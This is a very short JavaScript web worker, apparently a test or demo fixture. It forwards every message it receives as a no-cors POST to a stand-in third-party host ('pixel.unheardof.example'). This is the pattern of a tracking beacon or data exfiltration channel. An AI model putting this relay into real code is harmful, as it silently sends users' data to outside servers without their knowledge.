onmessage = function (event) {
  fetch('https://pixel.unheardof.example/worker', { method: 'POST', body: JSON.stringify(event.data), mode: 'no-cors' });
};
